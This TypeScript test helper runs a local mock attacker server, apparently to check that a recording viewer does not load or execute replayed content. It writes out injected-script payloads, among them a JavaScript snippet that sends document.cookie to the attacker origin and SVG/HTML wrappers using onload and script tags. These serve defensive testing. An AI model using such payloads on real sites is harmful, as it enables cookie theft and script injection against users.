/** The other side: a server that a recording wants somebody to ask for something. It answers with what would do harm, and counts. */

import { createServer } from "node:http";
import type { AddressInfo, Socket } from "node:net";

export interface Attacker {
  /** `http://localhost:port`: an origin that is not the viewer's. */
  origin: string;
  /** Host and port, for addresses without a scheme. */
  host: string;
  /** Every connection that was opened, whether or not it asked for anything, and every address that was asked for. */
  seen: string[];
  /** `Referer` headers that came along. */
  referrers: string[];
  close(): Promise<void>;
}

/** What a script of a recording does, if it runs: it says so in every way that a test can hear. */
export function harm(attacker: { origin: string }, name: string): string {
  return (
    `(function(){var w=window;try{w=top}catch(e){}try{w.__ran=(w.__ran||[]).concat('${name}')}catch(e){}` +
    `try{console.log('HARM ${name}')}catch(e){}try{new Image().src='${attacker.origin}/ran/${name}?'+document.cookie}catch(e){}` +
    `try{w.document.title='${name}'}catch(e){}})()`
  );
}

/** Starts it on a free port. */
export async function startAttacker(): Promise<Attacker> {
  const seen: string[] = [];
  const referrers: string[] = [];
  const sockets = new Set<Socket>();
  const server = createServer((request, response) => {
    const path = request.url ?? "/";
    seen.push(`${request.method ?? ""} ${path}`);
    if (request.headers.referer !== undefined) referrers.push(request.headers.referer);
    const [type, body] = answerOf(path, attacker);
    response.writeHead(200, { "Content-Type": type, "Access-Control-Allow-Origin": "*" }).end(body);
  });
  server.on("connection", (socket) => {
    seen.push("connection");
    sockets.add(socket);
    socket.on("close", () => sockets.delete(socket));
  });
  server.on("upgrade", (request, socket) => {
    seen.push(`UPGRADE ${request.url ?? ""}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  const attacker: Attacker = {
    origin: `http://127.0.0.1:${port}`,
    host: `127.0.0.1:${port}`,
    seen,
    referrers,
    async close() {
      for (const socket of sockets) socket.destroy();
      await new Promise((resolve) => server.close(resolve));
    },
  };
  return attacker;
}

const PIXEL = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64");

function answerOf(path: string, attacker: Attacker): [string, string | Buffer] {
  const name = path.replace(/[^\w]/g, "_");
  if (/\.js/.test(path)) return ["text/javascript", harm(attacker, name)];
  if (/\.css/.test(path)) return ["text/css", `body { background: url(${attacker.origin}/from-sheet.gif) }`];
  if (/\.(gif|png|jpg)/.test(path)) return ["image/gif", PIXEL];
  if (/\.svg/.test(path)) {
    const inside = `<script>${harm(attacker, name)}</script><image href="${attacker.origin}/in.gif"/>`;
    return ["image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" onload="${harm(attacker, name)}">${inside}</svg>`];
  }
  return ["text/html", `<title>taken</title><script>${harm(attacker, name)}</script><h1>taken</h1>`];
}
